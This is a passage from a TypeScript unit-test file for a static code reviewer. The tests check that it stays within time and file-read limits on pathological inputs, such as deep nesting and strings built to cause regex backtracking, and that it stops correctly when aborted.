    const report = await impatient.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(report.notes).toEqual([expect.stringContaining('took too long')])
  })

  it('case 39: imports of many names, from long files, cost no more than others', async () => {
    const names = Array.from({ length: 500 }, (_, index) => `n${index.toString(36)}`)
    const modules = Array.from({ length: 20 }, (_, index) => [
      `src/m${index}.ts`,
      'export \n'.repeat(30_000),
    ])
    const imports = modules
      .map(([path]) => `import {${names.join(',')}} from '../${path}'\n`)
      .join('')
    const calls = names.map((name) => `${name}()\n`).join('')
    const shown = {
      'src/a.ts': imports.repeat(10) + calls,
      'src/b.ts': imports.repeat(10) + calls,
      ...sound,
    }
    const change = addedFiles({ ...Object.fromEntries(modules), ...shown }, shown)
    const read: string[] = []
    const readFile: Snapshot['readFile'] = (path, options) => {
      read.push(path)
      return change.head.readFile(path, options)
    }
    const head = { ...change.head, readFile }
    const { findings } = await reviewer.review(
      { ...change, head },
      emptyContext,
      AbortSignal.timeout(60_000),
    )
    expect(findings.map(({ path }) => path)).toEqual(['src/sound.ts'])
    expect(read.length).toBeLessThan(30)
  })

  it.each([
    ['nested calls', `${'f('.repeat(50_000)}${')'.repeat(50_000)}`],
    ['a long sum', `x = ${'a+'.repeat(60_000)}a`],
    ['a long condition', `if (${"a !== 'b' || ".repeat(20_000)}c) d()`],
    ['many strings', `const a = ${"'password: x' + ".repeat(10_000)}''`],
    ['nested functions', `${'async () => { await '.repeat(5_000)}x${'}'.repeat(5_000)}`],
    ['NUL and invalid characters', `const a\0 = '\uFFFD'; \u202E`],
  ])('case 39: %s finish in time, with or without a result', async (_name, text) => {
    const change = addedFiles({
      'src/hostile.ts': `${text}\n`,
      'src/hostile.py': `${text}\n`,
      ...sound,
    })
    await using bounded = createStaticReviewer({ fileDeadlineMs: 500 })
    const report = await bounded.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(report.findings.map((finding) => `${finding.path}:${finding.rule}`)).toContain(
      'src/sound.ts:nan-comparison',
    )
  })

  it('a line that causes backtracking costs no more than others', async () => {
    const lines = [
      'eyJ-'.repeat(500),
      'password'.repeat(250),
      `token${': a'.repeat(600)}`,
      'a://a:'.repeat(300),
    ]
    expect(await review({ 'src/config.rb': `${lines.join('\n')}\n`.repeat(200) })).toEqual([])
  })

  it('a diff that does not match the file reports nothing on the wrong line', async () => {
    const change = addedFiles(
      { 'src/a.ts': 'if (a === NaN) stop()\n' },
      { 'src/a.ts': 'if (b === NaN) stop()\n' },
    )
    const report = await reviewer.review(change, emptyContext, AbortSignal.timeout(60_000))
    expect(report.findings).toEqual([])
    expect(report.complete).toBe(false)
  })

  it('the review stops at the signal', async () => {
    await expect(
      reviewer.review(addedFiles(sound), emptyContext, AbortSignal.abort()),
    ).rejects.toThrow('aborted')
    const controller = new AbortController()
    const change = addedFiles(sound)
    const readFile = async () => {
      controller.abort()
      return undefined
    }
    const running = reviewer.review(
      { ...change, head: { ...change.head, readFile } },
      emptyContext,
      controller.signal,
    )
    await expect(running).rejects.toThrow('aborted')
  })
})
